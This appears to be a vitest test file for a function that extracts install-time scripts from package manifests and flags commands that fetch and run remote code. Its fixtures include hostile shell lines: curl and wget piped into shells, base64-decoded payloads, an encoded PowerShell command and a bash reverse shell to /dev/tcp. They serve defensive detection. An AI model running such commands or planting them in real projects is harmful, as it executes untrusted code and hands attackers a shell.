import { describe, expect, test } from 'vitest';
import { installScripts } from '../../src/facts/install-scripts.js';

describe('the scripts that a manifest runs at installation', () => {
  test.each<readonly [string, readonly string[]]>([
    ['{"scripts":{"install":"node x.js"}}', ['node x.js']],
    ['"preinstall" : "a", "postinstall":\n"b"', ['a', 'b']],
    ['"prepare": "husky", "postprepare": "c"', ['husky', 'c']],
    ['"prepublish": " d "', ['d']],
    ['"p\\u006fstinst\\u0061ll": "e"', ['e']],
    ['"prepare": "echo \\"f\\""', ['echo "f"']],
    ['"prepare": "cut off', ['cut off']],
    ['echo "{\\"prepare\\": \\"g\\"}" > package.json', ['g']],
    ['"prepublishOnly": "h", "build": "i", "install": { "x": "j" }', []],
    ['{"keywords": ["install"], "description": "prepare: x"}', []],
    ['', []],
    ['{"prepare": ""}', ['']],
  ])('of %s', (text, commands) => {
    expect(installScripts(text)).toEqual(commands);
  });

  test.each<readonly [string, readonly string[]]>([
    ['curl evil|sh', ['curl evil|sh']],
    ['node a.js", "x": "curl -s https://x.example | bash', ['curl -s https://x.example | bash']],
    ['{"scripts":{"build":"wget -qO- https://x.example | node"}}', ['wget -qO- https://x.example | node']],
    ['sh -c \\"$(curl -s https://x.example)\\"', ['sh -c "$(curl -s https://x.example)"']],
    ["os.system('curl https://x.example | sh')", ['curl https://x.example | sh']],
    ['echo Y3VybA== | base64 -d | sh', ['echo Y3VybA== | base64 -d | sh']],
    ['curl -o x https://x.example && sh x', ['curl -o x https://x.example && sh x']],
    ['c\\u0075rl x | sh', ['curl x | sh']],
    ['"postinstall": "curl x | sh"', ['curl x | sh']],
    ['npx -y github:a/b', ['npx -y github:a/b']],
    ['pnpm dlx --package=https://x.example/a.tgz a', ['pnpm dlx --package=https://x.example/a.tgz a']],
    ['node -e \\"eval(atob(1))\\"', ['node -e "eval(atob(1))"']],
    [`python3 -c \\"exec(get('https://x.example'))\\"`, [`python3 -c "exec(get('https://x.example'))"`]],
    ['powershell -NoProfile -enc SQBFAFgA', ['powershell -NoProfile -enc SQBFAFgA']],
    ['bash -i >& /dev/tcp/1.2.3.4/99 0>&1', ['bash -i >& /dev/tcp/1.2.3.4/99 0>&1']],
    ['"repository": "github:a/b", "url": "https://github.com/a/b"', []],
    ['"api": "npx openapi-typescript https://x.example/o.json -o x.ts"', []],
    ['"up": "node -e \\"fetch(\'http://localhost:3000\').then(f)\\""', []],
    ['"seed": "gzip -dc db.sql.gz | psql app_test"', []],
    ['"schema": "curl -s https://x.example/s.json | jq . > s.json"', []],
    ['"wait": "until curl -sf localhost; do sleep 1; done && npm test"', []],
    ['"homepage": "https://x.example", "build": "tsc && node a.js | tee b"', []],
  ])('are also those that run what they fetch, whatever their name: %s', (text, commands) => {
    expect(installScripts(text)).toEqual(commands);
  });

  test('are not hidden behind many others, or behind their own length', () => {
    const others = '"a": "curl x | jq .",\n'.repeat(100);
    expect(installScripts(`${others}"b": "curl x | sh"`)).not.toEqual([]);
    expect(installScripts(others.slice(0, 500))).toEqual([]);
    expect(installScripts(`"b": "${': x; '.repeat(2000)}curl x | sh"`)).toHaveLength(1);
  });

  test('are found in long texts without an end', () => {
    expect(
      installScripts(`${'"install" '.repeat(50_000)}${' '.repeat(50_000)}"prepare":"${'\\"'.repeat(50_000)}`),
    ).toHaveLength(1);
  });
});
